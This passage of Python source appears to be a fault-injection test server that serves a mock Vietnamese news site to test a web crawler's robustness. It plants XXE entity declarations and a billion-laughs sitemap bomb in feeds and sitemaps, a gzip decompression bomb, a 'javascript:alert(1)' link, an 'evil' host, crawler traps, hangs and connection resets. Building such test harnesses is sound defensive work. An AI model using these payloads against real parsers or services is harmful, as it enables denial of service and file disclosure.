        rss = pages["/songcau/rss/giao-duc.rss"].body.decode()
        rss = _with_doctype(rss, _xxe("rss", self.origin))
        rss = rss.replace("<description>", "<description>&xxe;&xxe2;", 1)
        pages["/songcau/rss/giao-duc.rss"] = replace(
            pages["/songcau/rss/giao-duc.rss"], body=rss.encode()
        )
        songcau = self.templates["songcau"]
        urls = [songcau.url(songcau.article_path(a)) for a in songcau.articles[:3]]
        xml = "application/xml; charset=utf-8"
        header = '<?xml version="1.0" encoding="UTF-8"?>\n'
        ns = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
        entries = "".join(f"<url><loc>{u}</loc><lastmod>&lol9;</lastmod></url>" for u in urls)
        pages["/songcau/sitemap-bomb.xml"] = Page(200, xml, (
            header + _LAUGHS.format(root="urlset") + f"<urlset {ns}>{entries}</urlset>\n"
        ).encode())  # fmt: skip
        entries = f"<url><loc>&xxe;</loc></url><url><loc>&xxe2;</loc></url><url><loc>{urls[0]}</loc></url>"
        pages["/songcau/sitemap-xxe.xml"] = Page(200, xml, (
            header + _xxe("urlset", self.origin) + f"<urlset {ns}>{entries}</urlset>\n"
        ).encode())  # fmt: skip
        index = "".join(
            f"<sitemap><loc>{loc}</loc></sitemap>"
            for loc in (
                songcau.url("/songcau/sitemap-bomb.xml"),
                songcau.url("/songcau/sitemap-xxe.xml"),
                songcau.url("/songcau/sitemap.xml"),  # itself
                evil + "sitemap.xml",
                "&xxe;",
                "javascript:alert(1)",
            )
        )
        pages["/songcau/sitemap.xml"] = Page(200, xml, (
            header + _xxe("sitemapindex", self.origin) + f"<sitemapindex {ns}>{index}</sitemapindex>\n"
        ).encode())  # fmt: skip

    def _traps(self, links: dict[str, list[tuple[str, str]]]) -> None:
        for f in self.plan.traps():
            section = f.path.split("/")[2]
            t = self.templates[f.site]
            if f.kind == "calendar-trap":
                first = t.listing_path(section, 1)
                links.setdefault(first, []).append((f"{first}?p=1&d=2026-11-27", "Xem theo ngày"))
            else:
                chunks = t.listing_chunks(section)
                last = t.listing_path(section, len(chunks))
                links.setdefault(last, []).append(
                    (t.listing_path(section, len(chunks) + 1), "Trang sau ›")
                )

    # -- per-request faults ------------------------------------------------------------------

    def _trap_page(self, path: str, query: str) -> Page | None:
        for f in self.plan.traps():
            target = f"{path}?{query}" if query else path
            if not re.match(f.path, target):
                continue
            t = self.templates[f.site]
            section = path.split("/")[2]
            if f.kind == "calendar-trap":
                day = dict(parse_qsl(query)).get("d", "2026-11-27")
                try:
                    previous = datetime.fromordinal(
                        datetime.strptime(day, "%Y-%m-%d").toordinal() - 1
                    )
                except ValueError:
                    return None
                base = self.pages[t.listing_path(section, 1)]
                nxt = f"{path}?p=1&d={previous:%Y-%m-%d}"
                text = "Ngày trước"
            else:
                n = int(path.rsplit("/", 1)[1])
                pages = len(t.listing_chunks(section))
                if n <= pages:
                    return None
                base = self.pages[t.listing_path(section, pages)]
                nxt, text = t.listing_path(section, n + 1), "Trang sau ›"
            markup = base.body.decode()
            return replace(base, body=_before_body_end(markup, _links_box([(nxt, text)])).encode())
        return None

    def serve(self, handler: BaseHTTPRequestHandler, *, with_body: bool, record: Record) -> bool:
        """Answer a request a fault takes over; False: serve the page as usual."""
        target = handler.path
        parts = urlsplit(target)
        if parts.path.startswith(EVIL):
            page = Page(
                200, HTML, f"<html><body><h1>{PAYLOAD_HTML}</h1><p>x</p></body></html>".encode()
            )
            _send(handler, page, with_body)
            record(handler, 200, len(page.body))
            return True
        fault = self._dynamic.get(target) or self._dynamic.get(parts.path)
        if fault is None:
            trap = self._trap_page(parts.path, parts.query)
            if trap is None:
                return False
            _send(handler, trap, with_body)
            record(handler, trap.status, len(trap.body))
            return True
        with self._lock:
            self._hits[fault.path] += 1
            n = self._hits[fault.path]
        return self._fault(handler, fault, n, with_body, record)

    def _fault(
        self, h: BaseHTTPRequestHandler, f: Fault, n: int, with_body: bool, record: Record
    ) -> bool:
        page = self.pages.get(f.path)
        failing = n <= f.fails
        if f.kind in ("burst", "http-500", "429") and failing:
            status = 429 if f.kind == "429" else 500 if f.kind == "http-500" else (503, 502)[n % 2]
            headers = (("Retry-After", "1"),) if f.kind == "429" else ()
            body = f"<html><body><h1>{status}</h1></body></html>".encode()
            _send(h, Page(status, HTML, body, headers=headers), with_body)
            record(h, status, len(body))
            return True
        if f.kind == "slow" and page is not None:
            _send(h, page, with_body, drip=SLOW_SECONDS)
            record(h, page.status, len(page.body))
            return True
        if f.kind in ("hang", "hang-once") and failing:
            self._hang(h)
            record(h, 0, 0)
            return True
        if f.kind == "reset" and failing:
            _reset(h)
            record(h, 0, 0)
            return True
        if f.kind in ("truncated", "truncated-once") and failing and page is not None:
            h.send_response(200)
            h.send_header("Content-Type", page.content_type)
            h.send_header("Content-Length", str(len(page.body) + 4096))
            h.end_headers()
            if with_body:
                h.wfile.write(page.body[: len(page.body) // 2])
            h.close_connection = True
            record(h, 200, len(page.body) // 2)
            return True
        if f.kind == "gzip-bomb":
            if not self._bomb:
                self._bomb = _gzip_bomb()
            bomb = Page(200, HTML, self._bomb, headers=(("Content-Encoding", "gzip"),))
            _send(h, bomb, with_body)
            record(h, 200, len(self._bomb))
            return True
        if f.kind in ("oversize", "oversize-stream"):
            h.send_response(200)
            h.send_header("Content-Type", HTML)
            if f.kind == "oversize":
                h.send_header("Content-Length", str(OVERSIZE_BYTES))
            h.send_header("Connection", "close")
            h.end_headers()
            sent = 0
            if with_body:
                try:
                    for chunk in _filler(OVERSIZE_BYTES):
                        h.wfile.write(chunk)
                        sent += len(chunk)
                except OSError:  # the client stopped reading at its size limit
                    pass
            h.close_connection = True
            record(h, 200, sent)
            return True
        if f.kind == "redirect-chain":
            m = re.search(r"-(\d+)$", urlsplit(h.path).query) or None
            step = int(m.group(1)) if m else 0
            location = f"{f.path}?buoc-{step + 1}"
            _send(h, _redirect(location), with_body)
            record(h, 301, 0)
            return True
        return False  # a transient fault that has cleared: the page as usual

    def _hang(self, h: BaseHTTPRequestHandler) -> None:
        """Hold the connection without answering until the client gives up."""
        deadline = time.monotonic() + HANG_SECONDS
        conn = h.connection
        while not self.stopping.is_set() and time.monotonic() < deadline:
            readable, _, _ = select.select([conn], [], [], 0.2)
            if readable:
                try:
                    if not conn.recv(1024, socket.MSG_PEEK):
                        break  # the client closed the connection
                except OSError:
                    break
                time.sleep(0.05)
        h.close_connection = True
        _reset(h)


def _redirect(location: str, status: int = 301) -> Page:
    body = f'<a href="{esc(location)}">Moved</a>'.encode()
    return Page(status, HTML, body, headers=(("Location", location),))


def _send(h: BaseHTTPRequestHandler, page: Page, with_body: bool, drip: float = 0.0) -> None:
    """Write a whole response (``drip``: the body in pieces over that many seconds)."""
    h.send_response(page.status)
    h.send_header("Content-Type", page.content_type)
    h.send_header("Content-Length", str(len(page.body)))
    for name, value in page.headers:
        h.send_header(name, value)
    h.end_headers()
    if not with_body:
        return
    try:
        if drip:
            pieces = 8
            size = -(-len(page.body) // pieces)
            for i in range(pieces):
                time.sleep(drip / pieces)
                h.wfile.write(page.body[i * size : (i + 1) * size])
        else:
            h.wfile.write(page.body)
    except OSError:
        h.close_connection = True


def _reset(h: BaseHTTPRequestHandler) -> None:
    """Close the connection with a TCP RST (SO_LINGER 0) and nothing sent."""
    try:
        h.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        h.connection.close()
    except OSError:
        pass
    h.close_connection = True
